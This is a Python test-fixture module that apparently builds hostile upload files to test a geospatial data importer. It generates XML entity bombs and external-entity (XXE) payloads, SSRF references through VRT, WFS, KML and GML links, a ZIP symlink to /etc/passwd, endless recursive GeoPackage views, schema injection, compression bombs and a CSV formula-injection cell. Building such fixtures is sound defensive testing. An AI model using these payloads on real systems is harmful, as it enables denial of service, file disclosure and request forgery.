"""Files made to do harm: to take time or memory without end, to have something asked or run.

Each is made in a folder, of a few kilobytes where that is enough. `url` is an address that nobody
must ask for; whoever listens there sees it.
"""

import gzip
import os
import sqlite3
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import geopandas as gpd
import shapely

Use = Literal["incidents", "wards", "roads", "members"]
Make = Callable[[Path, str], object]


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """A hostile file: its name, what it is sent as, how it is made.

    `large` takes seconds to make or read; `alone` must not be read in a process of value.
    """

    name: str
    use: Use
    make: Make
    large: bool = False
    alone: bool = False


HEAD = "time,lon,lat,category\n"
ROW = "2026-02-01 08:30,101.41,1.61,PKL\n"
_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACK = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 50}">' for n in range(10)
)  # fmt: skip


def text(content: str | bytes) -> Make:
    """Make a file of a text, `{url}` in it replaced."""

    def make(path: Path, url: str) -> None:
        raw = content if isinstance(content, bytes) else content.encode()
        path.write_bytes(raw.replace(b"{url}", url.encode()))

    return make


def workbook(
    sheet: Callable[[], Iterator[str]], string: str = "<si><t>a</t></si>", times: int = 1
) -> Make:
    """Make an XLSX of the parts of its only sheet's XML."""

    def make(path: Path, url: str) -> None:
        parts = {
            "[Content_Types].xml": f'<Types xmlns="{_CT}"><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            f'ContentType="{_TYPE}.sheet.main+xml"/><Override PartName="/xl/worksheets/s1.xml" '
            f'ContentType="{_TYPE}.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{_TYPE}.sharedStrings+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{_PACK}"><Relationship Id="r1" '
            f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets><sheet '
            'name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACK}"><Relationship Id="r1" '
            f'Type="{_REL}/worksheet" Target="worksheets/s1.xml"/><Relationship Id="r2" '
            f'Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
            "xl/sharedStrings.xml": f'<sst xmlns="{_MAIN}">{string * times}</sst>',
        }
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
            for name, content in parts.items():
                book.writestr(name, content)
            with book.open("xl/worksheets/s1.xml", "w") as out:
                for part in sheet():
                    out.write(part.encode())

    return make


def sheet(*rows: str, before: str = "") -> Callable[[], Iterator[str]]:
    """Return what gives the XML of a sheet of rows below a header."""

    def parts() -> Iterator[str]:
        cells = "".join(
            f'<c r="{c}1" t="inlineStr"><is><t>{name}</t></is></c>'
            for c, name in zip("ABCD", HEAD.strip().split(","), strict=True)
        )
        yield f'{before}<worksheet xmlns="{_MAIN}"><dimension ref="A1:XFD1048576"/><sheetData>'
        yield f'<row r="1">{cells}</row>'
        yield from rows
        yield "</sheetData></worksheet>"

    return parts


def cell(at: str, value: str = "1") -> str:
    """Return the XML of a row with one cell."""
    return f'<row r="{"".join(filter(str.isdigit, at))}"><c r="{at}"><v>{value}</v></c></row>'


def geopackage(*statements: str) -> Make:
    """Make a GeoPackage of one sound point, then do something to it; `{url}` is replaced."""

    def make(path: Path, url: str) -> None:
        point = {"time": ["2026-02-01 08:30"], "category": ["PKL"]}
        frame = gpd.GeoDataFrame(point, geometry=[shapely.Point(101.41, 1.61)], crs="OGC:CRS84")
        frame.to_file(path, layer="points", driver="GPKG")
        with closing(sqlite3.connect(path)) as db, db:
            for statement in statements:
                db.execute(statement.replace("{url}", url))

    return make


ENDLESS = (
    "WITH RECURSIVE n(fid) AS (SELECT 1 UNION ALL SELECT fid + 1 FROM n) "
    "SELECT fid, (SELECT geom FROM points) AS geom, '2026-02-01' AS time FROM n"
)


def register(name: str) -> tuple[str, str]:
    """Return what tells readers of a GeoPackage that a view is one of its layers."""
    return (
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) SELECT "
        f"'{name}', 'features', '{name}', srs_id FROM gpkg_contents LIMIT 1",
        "INSERT INTO gpkg_geometry_columns SELECT "
        f"'{name}', 'geom', 'POINT', srs_id, 0, 0 FROM gpkg_geometry_columns LIMIT 1",
    )


def packed(content: Callable[[], Iterator[bytes]]) -> Make:
    """Make a gzip file of chunks."""

    def make(path: Path, _url: str) -> None:
        with gzip.open(path, "wb", compresslevel=1) as out:
            for chunk in content():
                out.write(chunk)

    return make


def archive(**parts: str) -> Make:
    """Make a ZIP of texts; a part called `link` becomes a symbolic link."""

    def make(path: Path, url: str) -> None:
        with zipfile.ZipFile(path, "w") as out:
            for name, content in parts.items():
                info = zipfile.ZipInfo(name.replace("__", "."))
                info.external_attr = (0o120777 if name.startswith("link") else 0o100644) << 16
                out.writestr(info, content.replace("{url}", url))

    return make


def sparse(path: Path, _url: str) -> None:
    """Make a file of 2 GB that takes no room."""
    path.write_text(HEAD + ROW)
    os.truncate(path, 2 << 30)


def line(path: Path, _url: str) -> None:
    """Make a table whose second line does not end."""
    path.write_text(HEAD + "a" * 40_000_000)


def many_rows(path: Path, _url: str) -> None:
    """Make a sound table of 20 MB."""
    with path.open("w") as out:
        out.write(HEAD)
        out.writelines(
            f"2026-02-{n % 28 + 1:02} 08:30,101.4{n % 97:02},1.6{n % 89:02},K{n}\n"
            for n in range(480_000)
        )


def chunks(chunk: bytes, count: int, *, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
    """Return what gives a chunk many times."""

    def parts() -> Iterator[bytes]:
        yield first
        for _ in range(count):
            yield chunk

    return parts


def parquet(path: Path, _url: str) -> None:
    """Make a table of compressed nothing."""
    path.write_bytes(b"PAR1" + zlib.compress(b"\0" * 1_000_000) + b"PAR1")


VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/{url}/a.geojson'
    "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
)
WFS = "<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>"
GML = (
    '<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" xmlns:gml="http://www.opengis.'
    'net/gml" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xsi="http://www.w3.org/2001/'
    'XMLSchema-instance" xsi:schemaLocation="{url}/s {url}/s.xsd"><gml:featureMember><a gml:id="a">'
    '<name>a</name><g><gml:Polygon srsName="{url}/crs"><gml:exterior xlink:href="{url}/x"/>'
    "</gml:Polygon></g></a></gml:featureMember></wfs:FeatureCollection>"
)
KML = (
    '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link><href>{url}/k.kml'
    "</href></Link></NetworkLink><Placemark><name>a</name><Polygon><outerBoundaryIs><LinearRing>"
    "<coordinates>101,1 101.1,1 101,1.1 101,1</coordinates></LinearRing></outerBoundaryIs>"
    "</Polygon></Placemark></Document></kml>"
)


def layer(crs: str, shape: str = '{"type":"Point","coordinates":[101.41,1.61]}') -> str:
    """Return GeoJSON with a CRS member."""
    return (
        f'{{"type":"FeatureCollection","crs":{crs},"features":[{{"type":"Feature","properties":'
        '{"time":"2026-02-01 08:30","category":"PKL","name":"a"},"geometry":' + shape + "}]}"
    )


AREA = '{"type":"Polygon","coordinates":[[[101,1],[101.1,1],[101,1.1],[101,1]]]}'
LINK = '{"type":"link","properties":{"href":"{url}/crs","type":"proj4"}}'
NAME = '{"type":"name","properties":{"name":"{url}/crs"}}'
DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{url}/x">' + LAUGHS + "]>"

FILES: tuple[Hostile, ...] = (
    Hostile(
        name="view.gpkg",
        use="incidents",
        make=geopackage(f"CREATE VIEW endless AS {ENDLESS}", *register("endless")),
    ),
    Hostile(
        name="only-view.gpkg",
        use="incidents",
        make=geopackage(
            f"CREATE VIEW endless AS {ENDLESS}",
            *register("endless"),
            "DELETE FROM gpkg_contents WHERE table_name = 'points'",
            "DELETE FROM gpkg_geometry_columns WHERE table_name = 'points'",
        ),
    ),
    Hostile(
        name="contents.gpkg",
        use="incidents",
        make=geopackage(
            "ALTER TABLE gpkg_contents RENAME TO kept",
            f"CREATE VIEW gpkg_contents AS SELECT k.* FROM kept k, ({ENDLESS})",
        ),
    ),
    Hostile(
        name="geometry-columns.gpkg",
        use="wards",
        make=geopackage(
            "ALTER TABLE gpkg_geometry_columns RENAME TO kept",
            f"CREATE VIEW gpkg_geometry_columns AS SELECT k.* FROM kept k, ({ENDLESS})",
        ),
    ),
    Hostile(
        name="trigger.gpkg",
        use="incidents",
        make=geopackage(
            f"CREATE VIEW v AS {ENDLESS}",
            *register("v"),
            "CREATE TRIGGER t BEFORE DELETE ON gpkg_contents BEGIN INSERT INTO points (time) "
            "SELECT time FROM v; END",
        ),
    ),
    Hostile(
        name="virtual.gpkg",
        use="incidents",
        make=geopackage(
            "PRAGMA writable_schema = ON",
            "INSERT INTO sqlite_master VALUES ('table', 'far', 'far', 0, "
            "'CREATE VIRTUAL TABLE far USING VirtualOGR(''/vsicurl/{url}/a.geojson'')')",
        ),
    ),
    Hostile(name="far.xlsx", use="incidents", make=workbook(sheet(cell("XFD1048576")))),
    Hostile(name="far-row.xlsx", use="incidents", make=workbook(sheet(cell("A1048576")))),
    Hostile(name="far-column.xlsx", use="members", make=workbook(sheet(cell("XFD2")))),
    Hostile(name="no-row.xlsx", use="incidents", make=workbook(sheet(cell("A99999999999")))),
    Hostile(
        name="ghosts.xlsx",
        use="incidents",
        make=workbook(sheet(*(f'<row r="{r}"><c r="XFD{r}"/></row>' for r in range(2, 40_000)))),
        large=True,
    ),
    Hostile(
        name="long-string.xlsx",
        use="incidents",
        make=workbook(
            sheet(*(f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(2, 5_000))),
            f"<si><t>{'a' * 900_000}</t></si>",
        ),
    ),
    Hostile(
        name="strings.xlsx",
        use="incidents",
        make=workbook(sheet(), times=20_000_000),
        large=True,
    ),
    Hostile(
        name="bomb.xlsx",
        use="incidents",
        make=workbook(lambda: iter([" " * (1 << 20)] * 600)),
        large=True,
    ),
    Hostile(
        name="entities.xlsx",
        use="incidents",
        make=workbook(sheet(before=DTD.replace("DOCTYPE a", "DOCTYPE worksheet"))),
    ),
    Hostile(name="link.geojson", use="incidents", make=text(layer(LINK))),
    Hostile(name="link-wards.geojson", use="wards", make=text(layer(LINK, AREA))),
    Hostile(name="name.geojson", use="incidents", make=text(layer(NAME))),
    Hostile(
        name="deep.geojson",
        use="incidents",
        make=text('{"type":"FeatureCollection","features":' + "[" * 100_000 + "]" * 100_000 + "}"),
        alone=True,
    ),
    Hostile(
        name="deep-shape.geojson",
        use="wards",
        make=text(
            '{"type":"Feature","properties":{},"geometry":'
            + '{"type":"GeometryCollection","geometries":[' * 50_000
            + "]}" * 50_000
            + "}"
        ),
        alone=True,
    ),
    Hostile(name="vrt.geojson", use="incidents", make=text(VRT), alone=True),
    Hostile(name="wards.vrt", use="wards", make=text(VRT), alone=True),
    Hostile(name="wfs.xml", use="wards", make=text(WFS), alone=True),
    Hostile(name="wfs.geojson", use="incidents", make=text("WFS:{url}"), alone=True),
    Hostile(name="wards.gml", use="wards", make=text(GML), alone=True),
    Hostile(name="wards.kml", use="wards", make=text(KML), alone=True),
    Hostile(name="entities.kml", use="wards", make=text(DTD + "<kml>&l9;&x;</kml>")),
    Hostile(name="entities.gpx", use="incidents", make=text(DTD + "<gpx>&l9;&x;</gpx>")),
    Hostile(
        name="wide.gml", use="wards", make=text((DTD + "<a>&l9;</a>").encode("utf-16")), alone=True
    ),
    Hostile(name="late.kml", use="wards", make=text("<!-- " + "<kml>" * 300_000 + " -->" + DTD)),
    Hostile(name="roads.osm", use="roads", make=text(DTD + "<osm>&l9;&x;</osm>")),
    Hostile(name="hidden.osm", use="roads", make=text(f"<!-- <osm> -->{DTD}<osm>&l9;</osm>")),
    Hostile(name="roads.graphml", use="roads", make=text(DTD + "<graphml>&l9;</graphml>")),
    Hostile(
        name="bomb.osm.gz",
        use="roads",
        make=packed(chunks(b"<node/>" * 100_000, 2_000, first=b"<osm>")),
        large=True,
    ),
    Hostile(name="link.zip", use="wards", make=archive(link__shp="/etc/passwd"), alone=True),
    Hostile(name="vrt.zip", use="wards", make=archive(a__vrt=VRT), alone=True),
    Hostile(name="a.parquet", use="incidents", make=parquet, alone=True),
    Hostile(name="line.csv", use="incidents", make=line),
    Hostile(name="columns.csv", use="incidents", make=text("," * 300_000 + "a,b\n1,2\n")),
    Hostile(name="quote.csv", use="incidents", make=text(HEAD + '"' + ROW * 100_000)),
    Hostile(name="nul.csv", use="incidents", make=text(HEAD + ROW * 300 + "\0")),
    Hostile(name="nul.tsv", use="members", make=text("nama\tregu\n" * 1_000 + "a\0b\tRegu 1\n")),
    Hostile(
        name="wide-nul.csv", use="members", make=text("nama,regu\na\0b,Regu 1\n".encode("utf-16"))
    ),
    Hostile(name="formula.csv", use="incidents", make=text(HEAD + "=cmd|' /C x'!A0,@a,+b,-c\n")),
    Hostile(name="sparse.csv", use="incidents", make=sparse),
    Hostile(name="sparse.gpkg", use="wards", make=sparse),
    Hostile(
        name="bomb.csv.gz", use="incidents", make=packed(chunks(bytes(1 << 20), 1_000)), large=True
    ),
    Hostile(
        name="rows.csv.gz",
        use="incidents",
        make=packed(chunks(ROW.encode() * 10_000, 1_400, first=HEAD.encode())),
        large=True,
    ),
    Hostile(name="rows.csv", use="incidents", make=many_rows, large=True),
)
"""The table: another file is another line."""
